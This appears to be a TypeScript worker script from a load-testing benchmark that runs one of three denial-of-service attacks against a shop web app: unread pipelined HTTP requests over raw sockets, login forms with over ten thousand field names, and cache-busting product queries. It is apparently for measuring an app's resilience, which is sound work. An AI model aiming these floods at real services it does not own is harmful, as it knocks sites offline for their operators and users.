// Runs one attack in a worker thread, so that the attack does not delay the thread that measures response times.
import { randomInt } from "node:crypto"
import { Agent, request } from "node:http"
import { connect } from "node:net"
import { workerData } from "node:worker_threads"
import { z } from "zod"
import { type Attack, ATTACKS } from "#labs/bench/attack-names.ts"

const { url, attack } = z.object({ url: z.string(), attack: z.enum(ATTACKS) }).parse(workerData)
const { hostname, port, host, origin } = new URL(url)

const PIPELINES = 30
const PIPELINED = 600
const FORMS = 2
const NAMES = 10_500
const READERS = 50
/**
 * Maximum of the random price in the URL. It is so high that the attack requests more different pages than the page
 * cache can store.
 */
const MOST = 1_000_000_000
/** How long the attacker waits before it reconnects, after the shop has closed a connection, in milliseconds. */
const PAUSE = 1000

const agent = new Agent({ keepAlive: true })

/** Sends requests without end. Sends each request when the response to the previous one is complete. */
function repeat(next: () => { path: string; form?: string }): void {
  const { path, form } = next()
  const again = () => repeat(next)
  const asked = request(new URL(path, url), {
    agent,
    method: form === undefined ? "GET" : "POST",
    headers: {
      "Accept-Encoding": "gzip",
      ...(form !== undefined && {
        Origin: origin,
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": form.length,
      }),
    },
  })
  asked.once("response", (response) => response.resume().once("close", again))
  asked.once("error", () => setTimeout(again, PAUSE))
  asked.end(form)
}

/** Sends all requests at once on one connection, and does not read the responses. */
function pipeline(requests: string): void {
  const socket = connect(Number(port), hostname, () => socket.write(requests)).pause()
  socket.on("error", () => {})
  socket.once("close", () => setTimeout(pipeline, PAUSE, requests))
}

function formOfManyNames(): string {
  const names = Array.from({ length: NAMES }, (_, at) => `1${at.toString(36).padStart(3, "0")}=`)
  return names.join("&")
}

const START: Record<Attack, () => void> = {
  "pipelined requests"() {
    const head = `GET /en HTTP/1.1\r\nHost: ${host}\r\nAccept-Encoding: identity\r\n\r\n`
    const requests = head.repeat(PIPELINED)
    for (let at = 0; at < PIPELINES; at += 1) pipeline(requests)
  },
  "forms of many names"() {
    const form = formOfManyNames()
    for (let at = 0; at < FORMS; at += 1) repeat(() => ({ path: "/en/auth/login", form }))
  },
  "uncached pages"() {
    for (let at = 0; at < READERS; at += 1) {
      repeat(() => ({ path: `/en/products?price_min=${randomInt(MOST)}` }))
    }
  },
}

START[attack]()
